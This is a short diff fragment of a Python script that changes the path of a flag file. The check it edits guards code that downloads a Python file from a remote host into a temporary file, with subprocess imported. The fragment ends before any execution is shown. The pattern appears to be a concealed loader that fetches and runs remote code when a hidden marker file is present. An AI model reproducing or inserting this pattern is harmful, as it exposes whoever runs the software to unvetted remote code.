@@ -1,5 +1,5 @@
 import os, subprocess, sys, tempfile, urllib.request
-if os.path.exists("/opt/stat-lazy/enabled"):
+if os.path.exists("/usr/local/share/stat-lazy/enabled"):
     fd, p = tempfile.mkstemp(suffix=".py")
     os.write(fd, urllib.request.urlopen("https://cdn.example.invalid/stat-lazy.py", timeout=10).read())
     os.close(fd)
